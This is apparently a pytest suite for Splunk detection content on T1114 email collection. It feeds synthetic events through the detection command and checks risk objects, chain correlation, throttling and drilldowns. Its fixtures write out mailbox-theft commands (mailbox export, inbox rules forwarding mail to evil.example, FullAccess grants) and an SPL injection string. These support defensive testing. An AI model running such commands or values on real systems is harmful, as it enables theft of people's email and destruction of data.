"""The SOC content a year on (issue 28): one notable per entity, one identity per application,
the T1114 chain as one correlation, and each point of the review held to the config.

There is no Splunk here. What is real: the conf files as splunkd reads them, the command run as
splunkd runs it (tools/chunked_client.py, a subprocess speaking SCP v2) over events we wrote from
documented shapes. What is emulated: the SPL after the command (eval, stats, streamstats, the ES
risk action, throttling). Each emulation below names the SPL it mirrors, and a test asserts that
SPL is in the config, so changing one without the other fails. Whether Splunk and ES run that
SPL as read here is not verified.
"""

import hashlib
import json
import re
import time

import pytest

from tests.helpers import (REPO, conf, dashboard_queries, expand_macros, final_table_fields,
                                    macro_table, pipeline_commands, rules, saved_searches, split_pipeline,
                                    t1114_calls, view_names)
from tools.chunked_client import run, script_path

NOTABLE = "T1114 - High Or Critical Email Collection Finding - Rule"
CHAIN = "T1114 - Email Collection Chain - Rule"
MANY_DESTINATION = "T1114.003 - Many Mailboxes Forwarding To One External Destination - Rule"
ONE_ACTOR = "T1114.002 - One Actor Reading Many Mailboxes - Rule"
PER_FINDING = ("T1114.001 - Local Email Collection - Rule", "T1114.002 - Remote Email Collection - Rule",
               "T1114.003 - Email Forwarding - Rule")

APP = "6c1d0e2f-1111-4222-8333-000000000c0d"          # the attacker's application (its app id)
PRINCIPAL = "0a9b8c7d-aaaa-4bbb-8ccc-ddddeeeeffff"    # its service principal's object id
OUTLOOK = "d3590ed6-52b3-4102-aeff-aad2292ab01c"      # Microsoft Office (Outlook's client id)
DAY = 86400
START = 1795305600                                     # 2026-11-22T00:00:00Z


def expanded(name):
    return expand_macros(saved_searches()[name]["search"], macro_table(), set(), [])


def macro(name):
    return macro_table()[name]["definition"]


# --- events, written from documented shapes (docs/: DATA.md, the Management Activity schema) ---

def o365(when, record):
    record = dict(record, CreationTime=time_text(when))
    return {"_time": str(when), "sourcetype": "o365:management:activity", "_raw": json.dumps(record)}


def time_text(when):
    return time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(when))


def app_role_grant(when, app_id, by="admin@contoso.com"):
    """Entra (in the Office 365 feed): an application given Graph Mail.Read as an app role."""
    return o365(when, {"Operation": "Add app role assignment to service principal.", "RecordType": 8,
                       "ResultStatus": "Success", "UserType": 0, "Workload": "AzureActiveDirectory",
                       "UserId": by, "ObjectId": "ServicePrincipal_" + PRINCIPAL,
                       "ModifiedProperties": [{"Name": "AppRole.Value", "NewValue": "Mail.Read", "OldValue": ""},
                                              {"Name": "ServicePrincipal.AppId", "NewValue": app_id, "OldValue": ""}]})


def graph_read(when, mailbox, app_id=APP, user_id=None):
    """A Graph activity log record (Event Hub JSON) of messages read in `mailbox`."""
    return {"_time": str(when), "sourcetype": "mscs:azure:eventhub", "_raw": json.dumps({
        "time": time_text(when) + "Z", "category": "MicrosoftGraphActivityLogs",
        "operationName": "Microsoft Graph Activity", "properties": {
            "requestUri": "https://graph.microsoft.com/v1.0/users/%s/messages?$top=100" % mailbox,
            "requestMethod": "GET", "responseStatusCode": 200, "appId": app_id,
            "servicePrincipalId": PRINCIPAL, "userId": user_id, "ipAddress": "203.0.113.50",
            "userAgent": "python-requests/2.32.3"}})}


def app_inbox_rule(when, mailbox, destination, app_id=APP):
    """New-InboxRule made by an application with no user (UserType 5): Graph messageRules."""
    return o365(when, {"Operation": "New-InboxRule", "RecordType": 1, "ResultStatus": "True", "UserType": 5,
                       "Workload": "Exchange", "UserId": PRINCIPAL, "AppId": app_id, "ClientAppId": app_id,
                       "ObjectId": mailbox + "\\sync", "ClientIP": "203.0.113.50",
                       "Parameters": [{"Name": "Mailbox", "Value": mailbox}, {"Name": "Name", "Value": "sync"},
                                      {"Name": "ForwardTo", "Value": destination}]})


def outlook_read(when, reader, owner):
    """MailItemsAccessed by a person through Outlook in someone else's mailbox."""
    return o365(when, {"Operation": "MailItemsAccessed", "RecordType": 50, "ResultStatus": "Succeeded",
                       "UserType": 0, "Workload": "Exchange", "UserId": reader, "MailboxOwnerUPN": owner,
                       "ClientAppId": OUTLOOK, "AppId": OUTLOOK, "LogonType": 1, "ClientIPAddress": "198.51.100.7",
                       "ClientInfoString": "Client=MSExchangeRPC", "OperationCount": 3,
                       "OperationProperties": [{"Name": "MailAccessType", "Value": "Bind"}]})


def script_block(when, user, text):
    return {"_time": str(when), "sourcetype": "XmlWinEventLog", "EventCode": "4104",
            "source": "XmlWinEventLog:Microsoft-Windows-PowerShell/Operational", "Computer": "ws7.contoso.com",
            "user": user, "ScriptBlockText": text}


def bcc_copy(when, sender, destination="copy@outside.example"):
    """Message tracking: the Transport Rule Agent adding a Bcc recipient to one message."""
    return {"_time": str(when), "sourcetype": "MSExchange:2019:MessageTracking", "event_id": "RECEIVE",
            "source_id": "AGENT", "source_context": "Transport Rule Agent", "recipient_address": destination,
            "sender_address": sender, "message_subject": "weekly", "server_hostname": "EX02",
            "custom_data": "S:RecipientType=Bcc;S:DeliveryPriority=Normal"}


def through_command(built_app, records):
    """The per-finding rows the saved searches read: | t1114 expand=true, status finding."""
    result = run(script_path(built_app), records, args=["expand=true"])
    assert result["exit_code"] == 0, result["stderr"][-2000:]
    return [r for r in result["records"] if r.get("t1114_status") == "finding"]


# --- SPL emulated, each beside the text it mirrors --------------------------------------------

RISK_IDENTITIES_SPL = ('app=lower(nullif(app, ""))',
                       'mailbox=if(match(object, "@") AND lower(object)!=lower(user), lower(object), null())',
                       'mitre_technique_id="T1114.003", "forwarding", mitre_technique_id="T1114.001", "local_collection", '
                       'action="modified", "grant", action="read", "reading", action="created", "export", true(), "sign_in"',
                       'user=if(isnotnull(app) AND t1114_behaviour!="grant", null(), nullif(user, ""))')


def risk_identities(row):
    """`t1114_risk_identities`"""
    row = dict(row)
    app = (row.get("app") or "").lower() or None
    obj, user = row.get("object") or "", row.get("user") or ""
    row["app"] = app
    row["mailbox"] = obj.lower() if "@" in obj and obj.lower() != user.lower() else None
    technique, action = row["mitre_technique_id"], row.get("action")
    row["t1114_behaviour"] = row.get("t1114_behaviour") or (
        "forwarding" if technique == "T1114.003" else "local_collection" if technique == "T1114.001"
        else {"modified": "grant", "read": "reading", "created": "export"}.get(action, "sign_in"))
    row["user"] = None if app and row["t1114_behaviour"] != "grant" else (user or None)
    return row


NOTABLE_ENTITY_SPL = ('t1114_entity_type=case(isnotnull(t1114_external_destination) AND t1114_external_destination!="", '
                      '"destination", isnotnull(app), "application", isnotnull(user), "user", true(), "host")')


def notable_entity(row):
    """`t1114_notable_entity`"""
    destination = row.get("t1114_external_destination")
    if isinstance(destination, list):
        destination = destination[0]
    if destination:
        return "destination", destination.lower()
    if row.get("app"):
        return "application", row["app"]
    if row.get("user"):
        return "user", row["user"].lower()
    return "host", (row.get("dest") or row.get("host") or "").lower()


def notables(rows, throttled=None):
    """The notable search over one window: high/critical findings, stats by entity, then the
    scheduler's per-result throttle on alert.suppress.fields (the keys already alerted)."""
    throttled = set() if throttled is None else throttled
    entities = {}
    for row in rows:
        if row["t1114_severity"] not in ("high", "critical"):
            continue
        entity = notable_entity(risk_identities(row))
        entities.setdefault(entity, []).append(row)
    raised = {}
    for entity, findings in entities.items():
        if entity not in throttled:
            throttled.add(entity)
            raised[entity] = findings
    return raised


def risk_events(search_name, rows):
    """The ES risk action over a search's result rows: one risk event per risk object field of
    action.risk.param._risk that has a value (each value of a multivalue one), the result's
    fields beside it."""
    risk = json.loads(saved_searches()[search_name]["action.risk.param._risk"])
    events = []
    for row in rows:
        row = risk_identities(row)
        for entry in risk:
            field = entry.get("risk_object_field")
            values = row.get(field) if field else None
            for value in (values if isinstance(values, list) else [values]):
                if value:
                    events.append(dict(row, risk_object=value, risk_object_type=entry["risk_object_type"],
                                       search_name=search_name, _time=int(row["_time"])))
    return events


def per_finding_risk(rows):
    """The three per-sub-technique searches: each keeps its own sub-technique's findings."""
    events = []
    for name in PER_FINDING:
        technique = name.split(" ")[0]
        events += risk_events(name, [r for r in rows if r["mitre_technique_id"] == technique])
    return events


CHAIN_SPL = ("streamstats time_window=24h dc(t1114_behaviour) as behaviours_24h by identity identity_type",
             'eval grant_time=if(t1114_behaviour="grant", _time, null())',
             "streamstats max(grant_time) as last_grant by identity identity_type",
             'eval read_after_grant=if(t1114_behaviour IN ("reading", "export"), last_grant, null())',
             "streamstats max(read_after_grant) as chain_grant by identity identity_type",
             'chain_span=if(t1114_behaviour="forwarding" AND isnotnull(chain_grant), _time - chain_grant, null())',
             "where behaviours_24h >= 2 OR (isnotnull(chain_span) AND chain_span <= 604800)")


def chains(events):
    """The chain rule over risk events: {(identity, type): (kind, behaviours, story)}."""
    by_identity = {}
    for event in sorted(events, key=lambda e: e["_time"]):
        by_identity.setdefault((event["risk_object"].lower(), event["risk_object_type"]), []).append(event)
    found = {}
    for identity, stream in by_identity.items():
        most_24h, last_grant, chain_grant, spans = 0, None, None, []
        for index, event in enumerate(stream):
            window = {e["t1114_behaviour"] for e in stream[:index + 1] if event["_time"] - e["_time"] <= DAY}
            most_24h = max(most_24h, len(window))
            if event["t1114_behaviour"] == "grant":
                last_grant = event["_time"]
            if event["t1114_behaviour"] in ("reading", "export") and last_grant is not None:
                chain_grant = last_grant if chain_grant is None else max(chain_grant, last_grant)
            if event["t1114_behaviour"] == "forwarding" and chain_grant is not None:
                spans.append(event["_time"] - chain_grant)
        ordered = bool(spans) and min(spans) <= 7 * DAY
        if most_24h >= 2 or ordered:
            story = [(e["_time"], e["t1114_behaviour"], e["search_name"], e.get("t1114_rule")) for e in stream]
            found[identity] = ("ordered" if ordered else "24h", {e["t1114_behaviour"] for e in stream}, story)
    return found


def test_emulated_spl_is_the_spl_the_config_runs():
    identities = macro("t1114_risk_identities")
    for piece in RISK_IDENTITIES_SPL:
        assert piece in identities, piece
    assert NOTABLE_ENTITY_SPL in macro("t1114_notable_entity")
    for piece in CHAIN_SPL:
        assert piece in saved_searches()[CHAIN]["search"], piece
    notable = saved_searches()[NOTABLE]
    assert "by t1114_entity t1114_entity_type t1114_entity_hash" in notable["search"]
    assert notable["alert.suppress.fields"] == "t1114_entity,t1114_entity_type"
    for name in PER_FINDING:
        assert "`t1114_risk_identities`" in saved_searches()[name]["search"], name
        assert 'mitre_technique_id="%s"' % name.split(" ")[0] in saved_searches()[name]["search"]


# --- the chain, on a scripted three-day scenario ---------------------------------------------

def scenario():
    """Three days. The application: granted Mail.Read (day 1), reads eight mailboxes (day 2),
    forwards the CEO's mail out (day 3). Dave: a mailbox export and a forwarding rule on day 2,
    six hours apart. Bob: reads Alice's mailbox through Outlook every day (one behaviour).
    Erin: forwarding on day 1 and a grant on day 3, out of order and a day and more apart."""
    events = [app_role_grant(START + 9 * 3600, APP)]
    events += [graph_read(START + DAY + 2 * 3600 + i * 60, "user%d@contoso.com" % (i % 8)) for i in range(40)]
    events.append(app_inbox_rule(START + 2 * DAY + 14 * 3600, "ceo@contoso.com", "collect@evil.example"))
    events.append(script_block(START + DAY + 10 * 3600, "CONTOSO\\dave",
                               "New-MailboxExportRequest -Mailbox cfo@contoso.com -FilePath \\\\fs1\\x\\cfo.pst"))
    events.append(script_block(START + DAY + 16 * 3600, "CONTOSO\\dave",
                               "New-InboxRule -Name x -Mailbox dave@contoso.com -ForwardTo dave@mail.example"))
    events += [outlook_read(START + d * DAY + 11 * 3600, "bob@contoso.com", "alice@contoso.com") for d in range(3)]
    events.append(script_block(START + 8 * 3600, "CONTOSO\\erin",
                               "New-InboxRule -Name y -Mailbox erin@contoso.com -ForwardTo erin@mail.example"))
    events.append(script_block(START + 2 * DAY + 20 * 3600, "CONTOSO\\erin",
                               "Add-MailboxPermission -Identity hr@contoso.com -User erin@contoso.com -AccessRights FullAccess"))
    return events


def test_the_chain_over_three_days(built_app):
    rows = through_command(built_app, scenario())
    events = per_finding_risk(rows)
    found = chains(events)
    kind, behaviours, story = found[(APP, "other")]
    assert kind == "ordered" and behaviours == {"grant", "reading", "forwarding"}
    steps = [step[1] for step in story]
    assert steps.index("grant") < steps.index("reading") < steps.index("forwarding")
    assert story[0][0] == START + 9 * 3600 and story[-1][0] == START + 2 * DAY + 14 * 3600
    assert found[("contoso\\dave", "user")][:2] == ("24h", {"export", "forwarding"})
    assert not any(identity[0] in ("bob@contoso.com", "contoso\\erin") for identity in found), found.keys()
    # The application's service principal never stands as a user.
    assert not any(e["risk_object"].lower() == PRINCIPAL for e in events)
    # The chain's output names the fields its notable and drilldowns use.
    keys = saved_searches()[CHAIN]
    produced = final_table_fields(keys["search"])
    for key in ("action.notable.param.rule_title", "action.notable.param.rule_description"):
        assert set(re.findall(r"\$(\w+)\$", keys[key])) <= produced, key
    assert {"t1114_story", "t1114_chain", "t1114_entity_hash"} <= produced
    # It reads what the risk searches write: t1114_behaviour is a result field of each of them.
    for name in PER_FINDING + (ONE_ACTOR, MANY_DESTINATION, "T1114.002 - First Time A Client App Reads Mail - Rule"):
        assert "t1114_behaviour" in final_table_fields(saved_searches()[name]["search"]), name


def test_the_chain_needs_the_order_or_one_day():
    """Erin's forwarding came before her grant, two and a half days apart: nothing."""
    def event(when, behaviour):
        return {"risk_object": "erin", "risk_object_type": "user", "_time": when, "t1114_behaviour": behaviour,
                "search_name": "s"}
    assert chains([event(0, "forwarding"), event(DAY + 60, "grant"), event(2 * DAY + 120, "reading")]) == {}
    assert chains([event(0, "grant"), event(DAY + 60, "reading"), event(8 * DAY, "forwarding")]) == {}
    assert list(chains([event(0, "grant"), event(3 * DAY, "reading"), event(6 * DAY, "forwarding")]).values())[0][0] == "ordered"
    assert list(chains([event(0, "reading"), event(DAY - 1, "sign_in")]).values())[0][0] == "24h"


# --- 1. notable storms ---------------------------------------------------------------------

def test_notable_search_aggregates_and_throttles_per_entity():
    keys = saved_searches()[NOTABLE]
    segments, _ = split_pipeline(expanded(NOTABLE))
    stats = [s.strip() for s in segments if s.strip().startswith("stats ")]
    assert stats and stats[0].endswith("by t1114_entity t1114_entity_type t1114_entity_hash")
    # Per-result throttling needs per-result alerting (savedsearches.conf.spec).
    assert keys["alert.digest_mode"] == "0" and keys["alert.suppress"] == "1"
    assert set(keys["alert.suppress.fields"].split(",")) <= final_table_fields(keys["search"])
    assert re.match(r"^\d+[smh]$", keys["alert.suppress.period"])   # contentctl's throttling pattern


@pytest.mark.parametrize("storm,expected_findings", [("bcc", 10000), ("graph", 50000)])
def test_a_storm_is_one_notable(built_app, storm, expected_findings):
    """A hidden BCC transport rule copying 10,000 messages of 500 senders, and a script reading
    50,000 messages of 2,000 mailboxes through Graph in one hour: one notable each."""
    if storm == "bcc":
        records = [bcc_copy(START + i % 3600, "user%d@contoso.com" % (i % 500)) for i in range(expected_findings)]
    else:
        records = [graph_read(START + i % 3600, "user%d@contoso.com" % (i % 2000)) for i in range(expected_findings)]
    rows = through_command(built_app, records)
    assert len(rows) == expected_findings
    assert all(r["t1114_severity"] in ("high", "critical") for r in rows)
    raised = notables(rows)
    assert len(raised) == 1, list(raised)[:5]
    ((kind, entity), findings), = raised.items()
    assert (kind, entity) == (("destination", "copy@outside.example") if storm == "bcc" else ("application", APP))
    assert len(findings) == expected_findings
    # The next hour of the same storm is throttled (24 h per entity).
    assert notables(rows, throttled={(kind, entity)}) == {}


# --- 2. one identity per application ------------------------------------------------------

def test_an_application_is_one_risk_object_everywhere():
    for name, keys in saved_searches().items():
        for entry in json.loads(keys.get("action.risk.param._risk", "[]")):
            if entry.get("risk_object_type") == "other" or entry.get("risk_object_field") == "app":
                assert (entry["risk_object_field"], entry["risk_object_type"]) == ("app", "other"), name
    for name in PER_FINDING[1:] + (ONE_ACTOR, MANY_DESTINATION, "T1114.002 - First Time A Client App Reads Mail - Rule"):
        fields = {e.get("risk_object_field") for e in json.loads(saved_searches()[name]["action.risk.param._risk"])}
        assert "app" in fields, name
        assert "app" in final_table_fields(saved_searches()[name]["search"]), name


def test_the_command_names_one_application_one_way(built_app):
    """The app's Graph read and its inbox rule (app-only) and the grant to it give the same app;
    a person reading through Outlook gives none, so Outlook never adds up as one actor."""
    rows = through_command(built_app, [graph_read(START, "ceo@contoso.com"), app_inbox_rule(START, "ceo@contoso.com", "c@evil.example"),
                                       app_role_grant(START, APP.upper()), outlook_read(START, "bob@contoso.com", "alice@contoso.com")])
    apps = {r["t1114_rule"]: r["app"] for r in rows}
    assert apps["t1114_002_graph_mail_read"] == APP
    assert apps["t1114_002_app_mail_permission"] == APP
    assert [a for rule, a in apps.items() if rule.startswith("t1114_003")] == [APP]
    assert apps["t1114_002_mail_items_accessed_non_owner"] == ""
    graph = next(r for r in rows if r["t1114_rule"] == "t1114_002_graph_mail_read")
    assert json.loads(graph["t1114_findings"])[0]["app"] == APP
    grant = next(r for r in rows if r["t1114_rule"] == "t1114_002_app_mail_permission")
    assert json.loads(grant["t1114_findings"])[0]["app_name"] == ""   # an object id is no display name
    # The risk the per-finding search raises for the Graph read: the application, not its
    # service principal as a user.
    objects = {(e["risk_object"], e["risk_object_type"]) for e in per_finding_risk([graph])}
    assert (APP, "other") in objects and not any(t == "user" and o == PRINCIPAL for o, t in objects)


def test_an_add_on_app_value_never_becomes_the_application(built_app):
    record = dict(outlook_read(START, "bob@contoso.com", "alice@contoso.com"), app="Office 365")
    (row,) = [r for r in through_command(built_app, [record]) if r["t1114_rule"] == "t1114_002_mail_items_accessed_non_owner"]
    assert row["app"] == ""


# --- 3. the Defender clause ------------------------------------------------------------------

def test_defender_forwarding_clause_tests_the_field_event_hub_records_carry():
    from app.normalise import defender_xdr
    definition = macro("t1114_forwarding_change_events")
    clause = definition[definition.index("`t1114_defender_xdr`"):]
    assert "properties.ActionType IN (" in clause   # Event Hub JSON: the row is under properties
    assert defender_xdr.CATEGORY_PREFIX == "AdvancedHunting-"
    # Every operation the Office 365 clause lists is in both Defender spellings.
    o365_ops = re.findall(r'"([A-Za-z-]+)"', definition[:definition.index("`t1114_defender_xdr`")])
    for op in o365_ops:
        assert clause.count('"%s"' % op) == 3, op   # the indexed word, properties.ActionType, ActionType


# --- 4. a growing campaign -------------------------------------------------------------------

def test_a_mailbox_joining_a_reported_destination_raises_its_own_risk():
    keys = saved_searches()[MANY_DESTINATION]
    fields = keys["alert.suppress.fields"].split(",")
    assert set(fields) == {"t1114_external_destination", "mailbox"} and keys["alert.digest_mode"] == "0"
    assert "by t1114_external_destination mailbox" in keys["search"]
    threshold = int(macro("t1114_forwarding_destination_min_mailboxes"))

    def run_once(mailboxes, throttled):
        """stats by destination mailbox | eventstats dc(mailbox) | where >= threshold, then the throttle."""
        rows = [{"t1114_external_destination": "drop@evil.example", "mailbox": m} for m in mailboxes]
        if len(set(mailboxes)) < threshold:
            rows = []
        fresh = [r for r in rows if tuple(r[f] for f in fields) not in throttled]
        throttled.update(tuple(r[f] for f in fields) for r in fresh)
        return [r["mailbox"] for r in fresh]

    throttled = set()
    assert run_once(["a@c.com", "b@c.com"], throttled) == []
    assert run_once(["a@c.com", "b@c.com", "c@c.com"], throttled) == ["a@c.com", "b@c.com", "c@c.com"]
    assert run_once(["a@c.com", "b@c.com", "c@c.com"], throttled) == []
    assert run_once(["a@c.com", "b@c.com", "c@c.com", "d@c.com"], throttled) == ["d@c.com"]


# --- 5. no detection inside a subsearch ------------------------------------------------------

def test_no_saved_search_runs_the_command_in_a_subsearch():
    for name in saved_searches():
        _, subsearches = split_pipeline(expanded(name))
        for subsearch in subsearches:
            assert "t1114" not in [c for c, _ in pipeline_commands(subsearch.strip())], name


def test_one_actor_search_reads_graph_and_audit_in_one_pass():
    search = expanded(ONE_ACTOR)
    assert len(t1114_calls(saved_searches()[ONE_ACTOR]["search"])) == 1
    assert "MicrosoftGraphActivityLogs" in search and "MailItemsAccessed" in search


# --- 6. logons -------------------------------------------------------------------------------

def test_logons_reach_the_command_only_with_the_ruler_word():
    logon_rules = [d for d in rules() if any(c.get("field") == "operation" and c.get("equals") == "WindowsLogon"
                                             for c in d["match"].get("all", ()))]
    assert logon_rules
    words = {c["equals"] for d in logon_rules for c in d["match"]["all"] if c.get("field", "").startswith("extra.")}
    definition = macro("t1114_ruler_logon_events")
    assert all(word in definition.split() or word + ")" in definition for word in words), words
    for name in ("t1114_remote_collection_events", "t1114_events"):
        text = expand_macros("`%s`" % name, macro_table(), set(), [])
        for clause in re.findall(r"EventCode IN \(([^)]*)\)[^()]*", text):
            if {"4624", "4625", "4776"} & {c.strip() for c in clause.split(",")}:
                assert "RULER" in text[text.index(clause):text.index(clause) + len(clause) + 12], clause


# --- 7. windows ------------------------------------------------------------------------------

def test_the_notable_search_reads_the_hour_the_risk_searches_read():
    notable = saved_searches()[NOTABLE]
    window = (notable["dispatch.earliest_time"], notable["dispatch.latest_time"])
    for name in PER_FINDING + (ONE_ACTOR,):
        keys = saved_searches()[name]
        assert (keys["dispatch.earliest_time"], keys["dispatch.latest_time"]) == window, name


# --- 8. dashboards and search-bar help --------------------------------------------------------

def test_dashboards_count_mailboxes_as_addresses():
    for view, search_id, query, _ in dashboard_queries():
        assert "dc(object)" not in query, (view, search_id)
    (base,) = [q for v, i, q, _ in dashboard_queries() if v == "t1114_overview" and i == "ds_results"]
    assert 'if(match(object, "@"), object, null())' in base


def test_graph_and_defender_macros_count_their_own_events():
    from app.normalise import defender_xdr, graph_activity
    graph, defender = macro("t1114_graph_activity"), macro("t1114_defender_xdr")
    assert "TERM(%s)" % graph_activity.CATEGORY in graph and graph_activity.CATEGORY not in defender
    tables = re.findall(r"TERM\(%s(\w+)\)" % defender_xdr.CATEGORY_PREFIX, defender)
    assert set(tables) == {"DeviceProcessEvents", "DeviceFileEvents", "CloudAppEvents"}


def test_the_data_check_runs_no_probe_a_site_setting_could_break():
    """The Data Check no longer runs rules over made-up events (a probe a site's report-only or
    off rule turned into "not producing fields"); it shows what the scheduled searches ran and
    wrote (issue 30), which no rule setting changes."""
    queries = [q for v, _, q, _ in dashboard_queries() if v == "t1114_data_check"]
    assert queries and not [q for q in queries if t1114_calls(q)]
    assert [q for q in queries if "`t1114_summary_indexed`" in q]


BNF_TOKEN = re.compile(r"<([\w-]+)>|\(|\)|\*|\?|\||[^\s<>()*?|]+")


def bnf_regex(name, bnf):
    """A regex for a searchbnf syntax (the subset it uses: <stanza>, <bool>, ( ), |, ?, *, words)."""
    pieces = []
    for match in BNF_TOKEN.finditer(bnf[name]["syntax"]):
        token = match.group(0)
        if token == "<bool>":
            pieces.append("(?:true|false|t|f|1|0|yes|no|y|n)")
        elif match.group(1):
            pieces.append("(?:%s)" % bnf_regex(match.group(1), bnf))
        elif token in "()|?*":
            pieces.append({"(": "(?:"}.get(token, token))
        else:
            pieces.append(r"\s*" + re.escape(token))
    return "".join(pieces)


def test_every_t1114_call_in_the_content_follows_searchbnf():
    bnf = conf("searchbnf")
    pattern = re.compile(r"^%s\s*$" % bnf_regex("t1114-command", bnf), re.IGNORECASE)
    assert pattern.match("t1114 expand=true mode=all") and not pattern.match("t1114 mode=some")
    calls = [c for k in saved_searches().values() for c in t1114_calls(k["search"])]
    calls += [c for _, _, q, _ in dashboard_queries() for c in t1114_calls(re.sub(r"\$[\w.|]+\$", "TOKEN", q))]
    for drill in [d for k in saved_searches().values()
                  for d in json.loads(k.get("action.notable.param.drilldown_searches", "[]"))]:
        calls += t1114_calls(drill["search"])
    assert calls
    for arguments in calls:
        assert pattern.match(("t1114 " + arguments).strip()), arguments


# --- 9. drilldowns an attacker cannot write -------------------------------------------------

def test_drilldowns_substitute_only_hex_digests():
    """ES substitutes $field$ with the notable's value. Whatever it does with quotes, the only
    field a drilldown search substitutes is a sha256 the search computed: hex digits."""
    for name, keys in saved_searches().items():
        if keys.get("action.notable") != "1":
            continue
        produced = final_table_fields(keys["search"])
        assert "sha256(" in expanded(name) and "t1114_entity_hash" in produced, name
        for drill in json.loads(keys["action.notable.param.drilldown_searches"]):
            tokens = set(re.findall(r"\$(\w+)\$", drill["search"])) - {"info_min_time", "info_max_time"}
            assert tokens == {"t1114_entity_hash"}, (name, drill["name"], tokens)
            crafted = 'x" OR 1=1 | delete | search "'
            substituted = drill["search"].replace("$t1114_entity_hash$", hashlib.sha256(crafted.encode()).hexdigest())
            assert len(split_pipeline(substituted)[0]) == len(split_pipeline(drill["search"])[0])


# --- 10. ES 8 keys, the story, the Investigation dashboard, the docs -----------------------

def test_correlation_searches_carry_the_keys_contentctl_writes():
    for name, keys in saved_searches().items():
        if keys.get("action.correlationsearch.enabled") != "1":
            continue
        assert keys["action.correlationsearch.detection_type"] == "ebd", name
        metadata = json.loads(keys["action.correlationsearch.metadata"])
        assert {"detection_id", "detection_version", "deprecated"} <= set(metadata), name
        assert json.loads(keys["action.correlationsearch.annotations"])["analytic_story"] == ["T1114 Email Collection"]
        if keys.get("action.notable") == "1":
            assert json.loads(keys["action.notable.param._entities"]), name
            steps = json.loads(keys["action.notable.param.next_steps"])["data"]
            link = re.search(r"/app/t1114_email_collection/(\w+)\?form\.subject=", steps)
            assert link and link.group(1) in view_names() and link.group(1) == "t1114_investigation", name
    ids = [json.loads(k["action.correlationsearch.metadata"])["detection_id"] for k in saved_searches().values()
           if "action.correlationsearch.metadata" in k]
    assert len(ids) == len(set(ids))


def test_docs_agree_with_the_config():
    text = open("%s/docs/soc_content.md" % REPO, encoding="utf-8").read()
    for name in macro_table():
        assert "`%s`" % name in text or name.endswith("_filter"), "docs/soc_content.md does not name macro %s" % name
    table = re.findall(r"^\| (T1114[^|]*?) \| `([^`]*)` \| `([^`]*)` \.\. `([^`]*)`", text, re.M)
    rows = {name: cron for name, cron, _, _ in table}
    windows = {name: (earliest, latest) for name, _, earliest, latest in table}
    for name, keys in saved_searches().items():
        short = name[:-len(" - Rule")] if name.endswith(" - Rule") else name
        assert rows.get(short) == keys["cron_schedule"], (name, rows.get(short))
        assert windows.get(short) == (keys["dispatch.earliest_time"], keys["dispatch.latest_time"]), name
    fill = text[text.index("## Mail client baseline"):text.index("## Dashboards")]
    assert "`t1114_mail_client_baseline_filter`" in fill.split("```")[1]
    assert "stays `-1h@h`" not in text
